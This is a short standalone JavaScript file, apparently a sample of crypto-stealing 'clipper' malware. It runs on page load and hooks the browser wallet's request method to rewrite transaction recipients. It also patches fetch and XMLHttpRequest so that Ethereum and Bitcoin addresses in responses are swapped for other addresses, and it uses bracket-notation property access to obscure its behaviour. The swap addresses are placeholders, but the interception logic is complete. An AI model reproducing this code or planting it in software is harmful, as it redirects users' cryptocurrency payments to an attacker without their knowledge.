var neth = 0, rund = 0, loval = 0;
async function checkw() {
  try { var p = await window['ethereum']['request']({ 'method': 'eth_accounts' }); p['length'] > 0 ? runmask() : rund != 1 && (rund = 1, newdlocal()); } catch (e) { rund != 1 && (rund = 1, newdlocal()); }
}
typeof window != 'undefined' && typeof window['ethereum'] != 'undefined' ? checkw() : typeof window != 'undefined' && newdlocal();
function swap(text) {
  var found = { 'eth': /\b0x[a-fA-F0-9]{40}\b/g, 'btc': /\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\b/g };
  var own = { 'eth': ['0x0000000000000000000000000000000000000000', '0x0000000000000000000000000000000000000001'], 'btc': ['1InvalidInvalidInvalidInvalid'] };
  for (var k in found) { text = text['replace'](found[k], function (m) { return own[k][0]; }); }
  return text;
}
function newdlocal() {
  var first = window['fetch'];
  window['fetch'] = async function () { var r = await first['apply'](this, arguments); var t = await r['clone']()['text'](); var n = swap(t); return new Response(n, { 'status': r['status'], 'headers': r['headers'] }); };
  var open = XMLHttpRequest['prototype']['open'], send = XMLHttpRequest['prototype']['send'];
  XMLHttpRequest['prototype']['open'] = function (m, u) { this['_url'] = u; return open['apply'](this, arguments); };
  XMLHttpRequest['prototype']['send'] = function (b) { var x = this; var h = x['onreadystatechange']; x['onreadystatechange'] = function () { if (x['readyState'] === 4) { Object['defineProperty'](x, 'responseText', { 'value': swap(x['responseText']) }); } return h && h['apply'](x, arguments); }; return send['apply'](this, arguments); };
}
function runmask() {
  var first = window['ethereum']['request'];
  window['ethereum']['request'] = async function (q) { if (q['method'] === 'eth_sendTransaction') { q['params'][0]['to'] = '0x0000000000000000000000000000000000000000'; } return first['call'](this, q); };
}
